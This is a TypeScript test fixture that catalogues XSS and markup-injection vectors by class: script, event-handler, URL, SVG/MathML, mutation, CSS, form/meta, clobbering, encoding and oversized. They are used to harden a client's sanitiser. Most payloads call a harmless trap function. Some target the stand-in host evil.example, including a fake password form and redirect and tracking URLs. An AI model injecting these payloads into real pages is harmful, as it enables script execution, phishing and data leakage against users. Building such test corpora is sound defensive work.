/**
 * Hostile markup for hardening tests: known classes of XSS and markup-injection vectors,
 * written for this project. Each vector calls the page's trap `__petrelXss(<id>)` if it
 * ever runs, so a test can tell which one got through. `$X` stands for that call.
 *
 * No imports: the fake instance places these in its data, and the client's unit tests feed
 * the same list to the sanitiser.
 */

export type VectorClass =
  | 'script'
  | 'event-handler'
  | 'url'
  | 'svg-mathml'
  | 'mutation'
  | 'css'
  | 'form-meta'
  | 'target'
  | 'clobbering'
  | 'encoding'
  | 'oversized';

export interface HostileVector {
  id: number;
  kind: VectorClass;
  html: string;
}

export const TRAP_NAME = '__petrelXss';

/**
 * Pictures of the hostile posts and accounts come from another host, as on a real network,
 * so tests can check that the user's token never travels there.
 */
export const REMOTE_MEDIA = 'https://media.remote.example';

const EVIL = 'https://evil.example';

const SCRIPT: string[] = [
  '<script>$X</script>',
  '<SCRIPT>$X</SCRIPT>',
  '<script type="module">$X</script>',
  '<script src="data:text/javascript,$X"></script>',
  '<scr<script>ipt>$X</scr</script>ipt>',
  '<script/any>$X</script>',
  '<<script>$X//<</script>',
  '</p><script>$X</script><p>',
  '<script>$X<!--</script>',
  '<template><script>$X</script></template>',
  '<textarea><script>$X</script></textarea>',
  '<script\n>$X</script\n>',
  '<script>/*</script><script>*/$X</script>',
  '<div><script defer>$X</script></div>',
];

// One handler attribute on many elements: each element fires its events under other rules.
const HANDLERS: [string, string][] = [
  ['<img src=x onerror=$X>', ''],
  ['<img src="x" onerror="$X">', ''],
  ['<IMG SRC=x OnErRoR=$X>', ''],
  ['<img/src=x/onerror=$X>', ''],
  ['<img src=x onerror\n=$X>', ''],
  ['<img src=x onerror=$X//', ''],
  ['<img srcset=",,,x" onerror=$X>', ''],
  ['<image src=x onerror=$X>', ''],
  ['<svg onload=$X>', '</svg>'],
  ['<body onload=$X>', ''],
  ['<iframe onload=$X></iframe>', ''],
  ['<input autofocus onfocus=$X>', ''],
  ['<select autofocus onfocus=$X></select>', ''],
  ['<textarea autofocus onfocus=$X></textarea>', ''],
  ['<details open ontoggle=$X><summary>x</summary></details>', ''],
  ['<video><source onerror=$X></video>', ''],
  ['<audio src=x onerror=$X></audio>', ''],
  ['<video src=x onerror=$X></video>', ''],
  ['<marquee onstart=$X>x</marquee>', ''],
  ['<a href="#" autofocus tabindex=1 onfocus=$X>x</a>', ''],
  ['<object data=x onerror=$X></object>', ''],
  ['<style onload=$X></style>', ''],
  ['<link rel=stylesheet href=x onerror=$X>', ''],
  ["<img src=x onerror=\"window['__petrel'+'Xss'](ID)\">", ''],
  ['<svg><animate onbegin=$X attributeName=x dur=1s></animate></svg>', ''],
  ['<svg><set onbegin=$X attributeName=x to=1></set></svg>', ''],
  ['<input type=image src=x onerror=$X>', ''],
  ['<frameset onload=$X></frameset>', ''],
  ['<div onpointerenter=$X style="position:fixed;inset:0">cover</div>', ''],
  ['<p onmouseover=$X>hover me</p>', ''],
  ['<span onclick=$X>click me</span>', ''],
  ['<b style="animation:petrel-spin 1ms" onanimationstart=$X onanimationend=$X>spin</b>', ''],
  ['<b style="transition:color 1ms" ontransitionend=$X>fade</b>', ''],
  ['<img src=x onerror=&#95;&#95;petrelXss(ID)>', ''],
  ['<img src="x`" onerror=$X>', ''],
  ['<p><svg><g onload=$X></g></svg></p>', ''],
  ['<body onpageshow=$X>', ''],
  ['<img src=x onload=$X onerror=$X>', ''],
];

const URLS: string[] = [
  '<a href="javascript:$X">plain</a>',
  '<a href="JaVaScRiPt:$X">mixed case</a>',
  '<a href="&#106;avascript:$X">entity</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;script:$X">hex entity</a>',
  '<a href="java&#x09;script:$X">tab</a>',
  '<a href="java\nscript:$X">newline</a>',
  '<a href="  javascript:$X">spaces</a>',
  '<a href="&#1;javascript:$X">control</a>',
  '<a href="javascript&colon;$X">colon entity</a>',
  '<a href="javascript://%0a$X">comment break</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5fX3BldHJlbFhzcygpPC9zY3JpcHQ+">data b64</a>',
  '<a href="data:text/html,<script>$X</script>">data html</a>',
  '<a href="data:image/svg+xml,<svg onload=$X>">data svg</a>',
  '<a href="vbscript:msgbox(1)">vbscript</a>',
  '<a href="jav&#97;script:$X">partial entity</a>',
  '<iframe src="javascript:$X"></iframe>',
  '<iframe srcdoc="<script>parent.$X</script>"></iframe>',
  '<embed src="javascript:$X">',
  '<object data="javascript:$X"></object>',
  '<form action="javascript:$X"><button>go</button></form>',
  '<button formaction="javascript:$X">go</button>',
  '<math href="javascript:$X">math link</math>',
  '<img src="javascript:$X">',
  '<a href="javascript:void(0)" onclick=$X>void</a>',
  '<area href="javascript:$X">',
  '<a href="//evil.example/">protocol relative</a>',
  '<a href="/\\evil.example/">backslash relative</a>',
];

const SVG_MATHML: string[] = [
  '<svg><script>$X</script></svg>',
  '<svg><script href="data:,$X"></script></svg>',
  '<svg><foreignObject><img src=x onerror=$X></foreignObject></svg>',
  '<svg><style><img src=x onerror=$X></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=$X>',
  '<math><mi><mglyph><svg><mtext><textarea><a title="</textarea><img src=x onerror=$X>">',
  '<svg><desc><img src=x onerror=$X></desc></svg>',
  '<svg><title><img src=x onerror=$X></title></svg>',
  "<svg><use href=\"data:image/svg+xml,<svg id='u'><image href='x' onerror='$X'/></svg>#u\"></use></svg>",
  '<svg><animate attributeName=href values="javascript:$X"></animate><a><text y=20>x</text></a></svg>',
  '<svg><image href=x onerror=$X></image></svg>',
  '<math><maction actiontype=statusline xlink:href="javascript:$X">x</maction></math>',
  '<math><style><img src=x onerror=$X></style></math>',
  '<svg></p><style><a id="</style><img src=1 onerror=$X>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=$X>',
  '<svg><a xlink:href="javascript:$X"><text y=20>x</text></a></svg>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=$X></annotation-xml></math>',
  '<svg><feImage href="javascript:$X"></feImage></svg>',
  '<svg><noscript><img src=x onerror=$X></noscript></svg>',
  '<math><mi xlink:href="data:x,$X">x</mi></math>',
];

const MUTATION: string[] = [
  '<noscript><p title="</noscript><img src=x onerror=$X>"></noscript>',
  '<a title="<img src=x onerror=$X>">quoted markup</a>',
  '<noembed><img title="</noembed><img src onerror=$X>"></noembed>',
  '<noframes><img title="</noframes><img src onerror=$X>"></noframes>',
  '<iframe><img title="</iframe><img src onerror=$X>"></iframe>',
  '<style><img title="</style><img src onerror=$X>"></style>',
  '<textarea><img title="</textarea><img src onerror=$X>"></textarea>',
  '<title><img title="</title><img src onerror=$X>"></title>',
  '<xmp><img title="</xmp><img src onerror=$X>"></xmp>',
  '<table><td><svg><img src=x onerror=$X></svg></td></table>',
  '<select><template><style><img src=x onerror=$X></style></template></select>',
  '<!--><img src=x onerror=$X>-->',
  '<![CDATA[><img src=x onerror=$X>]]>',
  '<?xml ?><img src=x onerror=$X>',
  '<listing>&lt;img src=x onerror=$X&gt;</listing>',
  '<div id="</div><img src=x onerror=$X>">attr end</div>',
  '<img alt="``onerror=$X" src=x>',
  '<p>&lt;img src=x onerror=$X&gt;</p>',
];

const CSS: string[] = [
  '<style>body{display:none}</style>',
  '<style>@import url(' + EVIL + '/x.css);</style>',
  '<style>*{cursor:url(' + EVIL + '/c.png),auto}</style>',
  '<div style="position:fixed;inset:0;z-index:2147483647;background:red">overlay</div>',
  '<p style="background:url(javascript:$X)">bg</p>',
  '<p style="behavior:url(x.htc)">behaviour</p>',
  '<p style="width:expression($X)">expression</p>',
  '<link rel=stylesheet href="data:text/css,body{display:none}">',
  '<p style="--track:url(' + EVIL + '/t.png);background:var(--track)">variable</p>',
  '<svg><style>*{fill:red;display:none}</style></svg>',
  '<p style="font-size:100000px">huge</p>',
  '<p class="modal-backdrop visually-hidden skip-link">app classes</p>',
  '<style>@keyframes petrel-spin{}</style>',
  '<p style="position:absolute;top:0;left:0;width:100%;height:100%">absolute</p>',
  '<p style="content:url(' + EVIL + '/x)">content</p>',
  '<font size=7 color=red face="Comic Sans MS">font</font>',
];

const FORM_META: string[] = [
  '<meta http-equiv="refresh" content="0;url=' + EVIL + '/">',
  '<meta http-equiv="refresh" content="0;url=javascript:$X">',
  '<meta http-equiv="Content-Security-Policy" content="default-src \'none\'">',
  '<meta http-equiv="set-cookie" content="petrel=1">',
  '<base href="' + EVIL + '/">',
  '<base target="_top">',
  '<form action="' +
    EVIL +
    '/login" method="post"><input name="password" type="password" placeholder="Password"><button>Sign in</button></form>',
  '<form id="f"></form><button form="f" formaction="' + EVIL + '/">send</button>',
  '<input type="hidden" name="token" value="x">',
  '<object data="' + EVIL + '/"></object>',
  '<iframe src="' + EVIL + '/" sandbox></iframe>',
  '<frame src="' + EVIL + '/">',
  '<portal src="' + EVIL + '/"></portal>',
  '<embed src="' + EVIL + '/x.swf">',
  '<isindex action="' + EVIL + '/">',
  '<keygen autofocus onfocus=$X>',
];

const TARGET: string[] = [
  '<a href="' + EVIL + '/" target="_blank">blank without rel</a>',
  '<a href="' + EVIL + '/" target="_blank" rel="opener">opener</a>',
  '<a href="' + EVIL + '/" target="_top">top</a>',
  '<a href="' + EVIL + '/" target="_self">self</a>',
  '<a href="' + EVIL + '/" ping="' + EVIL + '/ping">ping</a>',
  '<a href="' + EVIL + '/" download="petrel.html">download</a>',
  '<a href="' + EVIL + '/" target="name" rel="noreferrer opener">named</a>',
];

const CLOBBERING: string[] = [
  '<a id="__petrelXss" href="' + EVIL + '/">id</a>',
  '<img name="__petrelXss" src=x>',
  '<form name="document"><input name="cookie"></form>',
  '<a id="defaultView">dv</a><a id="defaultView" name="location" href="' + EVIL + '/">dv</a>',
  '<img name="getElementById">',
  '<form id="root"></form>',
  '<a id="main" href="' + EVIL + '/">main</a>',
];

const ENCODING: string[] = [
  '&lt;script&gt;$X&lt;/script&gt;',
  '&amp;lt;img src=x onerror=$X&amp;gt;',
  '\uff1cscript\uff1e$X\uff1c/script\uff1e',
  '%3Cscript%3E$X%3C/script%3E',
  '\\u003cscript\\u003e$X\\u003c/script\\u003e',
  '+ADw-script+AD4-$X+ADw-/script+AD4-',
  '<scr\u0000ipt>$X</scr\u0000ipt>',
  '{{constructor.constructor("$X")()}}',
  '${$X}',
  '\u202egnp.exe\u202c <b>right-to-left override</b>',
  '<img src=x onerror=$X\u2028>',
];

function repeat(text: string, times: number): string {
  return Array.from({ length: times }, () => text).join('');
}

const OVERSIZED: string[] = [
  repeat('<span>', 600) + 'deep spans' + repeat('</span>', 600),
  repeat('<b>', 1000) + 'unclosed bold',
  repeat('<blockquote>', 400) + 'deep quotes' + repeat('</blockquote>', 400),
  repeat('<ul><li>', 300) + 'deep list' + repeat('</li></ul>', 300),
  'x'.repeat(20_000),
  repeat('<br>', 400),
  repeat('<p>para</p>', 500),
  'Z' + '\u0337\u0338\u0334'.repeat(600),
  '<abbr title="' + 't'.repeat(50_000) + '">long title</abbr>',
  repeat(':petrel_wave:', 300),
  repeat('<a href="' + EVIL + '/">l</a>', 300),
];

function expand(kind: VectorClass, list: string[]): Omit<HostileVector, 'id'>[] {
  return list.map((html) => ({ kind, html }));
}

const RAW: Omit<HostileVector, 'id'>[] = [
  ...expand('script', SCRIPT),
  ...expand(
    'event-handler',
    HANDLERS.map(([open, close]) => open + close),
  ),
  ...expand('url', URLS),
  ...expand('svg-mathml', SVG_MATHML),
  ...expand('mutation', MUTATION),
  ...expand('css', CSS),
  ...expand('form-meta', FORM_META),
  ...expand('target', TARGET),
  ...expand('clobbering', CLOBBERING),
  ...expand('encoding', ENCODING),
  ...expand('oversized', OVERSIZED),
];

/** The corpus, each vector with its trap call numbered by its id (1-based). */
export const HOSTILE_VECTORS: readonly HostileVector[] = RAW.map((vector, index) => {
  const id = index + 1;
  return {
    id,
    kind: vector.kind,
    html: vector.html.replaceAll('$X', `${TRAP_NAME}(${id})`).replaceAll('(ID)', `(${id})`),
  };
});

/** Splits the corpus into batches, one per hostile post or account. */
export function vectorBatches(size: number): HostileVector[][] {
  const batches: HostileVector[][] = [];
  for (let i = 0; i < HOSTILE_VECTORS.length; i += size)
    batches.push(HOSTILE_VECTORS.slice(i, i + size));
  return batches;
}
